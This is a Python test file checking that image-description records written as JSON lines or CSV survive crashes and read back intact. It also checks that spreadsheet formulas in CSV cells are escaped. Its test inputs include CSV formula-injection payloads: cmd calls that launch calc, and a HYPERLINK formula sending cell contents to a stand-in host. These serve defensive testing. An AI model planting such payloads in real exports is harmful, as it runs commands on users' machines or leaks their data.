"""Records of a batch: written whole, read back, gone on with."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gemma_edge.app.describe import record_format
from gemma_edge.description import (
    COLUMNS,
    ImageRecord,
    as_document,
    render_head,
    render_record,
)
from gemma_edge.documents.document import (
    digest,
    iter_rows,
    render_csv,
    task_digest,
    whole_lines,
)

RECORDS = [
    ImageRecord(file="a.jpg", answer='He said "hello",\nand left.', tokens=280, model="e4b",
           sha256="aa", task="t1"),
    ImageRecord(file="b.pdf", page=2, question="was, nun?", answer=["rot", "grün"], sha256="bb",
           task="t1", problems=("one", "two"), lost="4000x3000 -> 912x672"),
    ImageRecord(file="c.jpg", error="c.jpg is damaged (x)", hint="copy it again", task="t1"),
    ImageRecord(file="d.jpg", answer={"total": 2.5, "page": None}, sha256="dd", task="t2"),
]  # fmt: skip


def written(form):
    lines = [render_head(form)] if render_head(form) else []
    return "".join(line + "\n" for line in [*lines, *(render_record(r, form) for r in RECORDS)])


@pytest.mark.parametrize("form", ["json", "csv"])
def test_what_is_written_is_known_again(form):
    before = record_format(form).read(written(form))
    assert before.done.keys() == {RECORDS[0].key, RECORDS[1].key, RECORDS[3].key}
    assert before.told == {("c.jpg", "c.jpg is damaged (x)")}


def test_lines_of_json():
    first, second, third, fourth = map(json.loads, written("json").splitlines())
    assert first == {"file": "a.jpg", "answer": 'He said "hello",\nand left.', "tokens": 280,
                     "model": "e4b", "sha256": "aa", "task": "t1"}  # fmt: skip
    assert second["answer"] == ["rot", "grün"]
    assert (second["page"], second["problems"]) == (2, ["one", "two"])
    assert "answer" not in third
    assert fourth["answer"] == {"total": 2.5, "page": None}
    assert as_document(ImageRecord(file="e.jpg", answer=""))["answer"] == ""


@pytest.mark.parametrize("form", ["json", "csv"])
def test_only_a_newline_ends_a_line(form):
    """JSON keeps U+2028 and U+0085 as they are, and Python's splitlines ends lines there."""
    record = ImageRecord(file="a.jpg", answer="one\u2028two\x85three", sha256="aa", task="t1")
    text = f"{render_head(form)}\n" * (form == "csv") + render_record(record, form) + "\n"
    assert whole_lines(text, form) == text
    assert record_format(form).read(text).done == {record.key: record.answer}


def test_csv_opens_in_a_spreadsheet():
    rows = list(csv.DictReader(io.StringIO(written("csv"))))
    assert tuple(rows[0]) == COLUMNS
    assert rows[0]["answer"] == RECORDS[0].answer
    assert json.loads(rows[1]["answer"]) == ["rot", "grün"]
    assert rows[1]["problems"] == "one; two"
    assert rows[2]["error"] == "c.jpg is damaged (x)"


@pytest.mark.parametrize("form", ["json", "csv"])
def test_a_crash_in_the_middle_of_a_record_loses_that_record_only(form):
    """Cut anywhere: what is kept is whole, and the records that it lost are all that is missing."""
    text = written(form)
    ends = [0]
    for record in ([render_head(form)] if form == "csv" else []) + [
        render_record(record, form) for record in RECORDS
    ]:
        ends.append(ends[-1] + len(record) + 1)
    look = record_format(form)
    for cut in range(len(text)):
        kept = whole_lines(text[:cut], form)
        assert len(kept) == max(end for end in ends if end <= cut)
        assert look.read(kept).done.items() <= look.read(text).done.items()


@pytest.mark.parametrize("text", ["", "[]\n", "{\n", "null\n1\n", '{"file": "a"}\n', "\0\n"])
def test_lines_that_are_no_records_count_for_nothing(text):
    assert record_format("json").read(text).done == {}
    assert record_format("csv").read(text.replace("\0", "")).done == {}


def test_digests():
    assert digest(b"") == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    assert task_digest({"a": 1, "b": None}) == task_digest({"b": None, "a": 1})
    assert task_digest({"a": 1}) != task_digest({"a": 2})


FORMULAS = [
    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "\uff1d1+1", "\uff0bA1", "\uff0dA1", "\uff20A1", "\ufe66A1", "  =1", "\u00a0=1", "\ufeff=1",
    "\u200b=1",
    '=HYPERLINK("http://x.test?"&A1)', "-A1", "-", "=",
]  # fmt: skip
BEHIND = [f"Acme{end}=1+1" for end in (";", "\t", "\n", "\r")] + ["Acme\n- HYPERLINK(A1)"]
PLAIN = [
    "", "Acme", "-5.00", "+5", "-1.234,56", "+41446681800", "-12'000.50", "1e-5", "-1e5", "-3%",
    "a=b", "a-b", "[1, -5]", '{"a": "=1"}', "a; -5", "one\n- two\n- three", "5; -6.5", "12 - 7",
]  # fmt: skip


@pytest.mark.parametrize("text", [*FORMULAS, *BEHIND])
def test_a_formula_is_text_in_a_spreadsheet(text):
    (row,) = csv.reader(io.StringIO(render_csv([text, "x"]), newline=""))
    assert row[0] != text and row[1] == "x"
    if text in FORMULAS:
        assert row[0].startswith("'") and row[0].replace("'", "") == text.replace("'", "")
    assert next(csv.reader(io.StringIO(render_csv([text], raw=True), newline="")))[0] == text


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_all_other_text_stay_as_they_are(text):
    assert list(csv.reader(io.StringIO(render_csv([text, -5.0])))) == [[text, "-5.0"]]


@given(st.lists(st.text(alphabet="=+-@\t\r\n\0'; 5.x(\uff1d\ufeff|%e\"", max_size=12), min_size=1))
def test_what_was_made_harmless_is_given_back(cells):
    names = [f"n{number}" for number in range(len(cells))]
    cells = [cell.replace("\0", "") for cell in cells]  # an older Python's reader takes no NUL
    text = f"{render_csv(names)}\n{render_csv(cells)}\n"
    assert list(iter_rows(text)) == [dict(zip(names, cells, strict=True))]
    raw = f"{render_csv(names)}\n{render_csv(cells, raw=True)}\n"
    assert list(iter_rows(raw, raw=True)) == [dict(zip(names, cells, strict=True))]
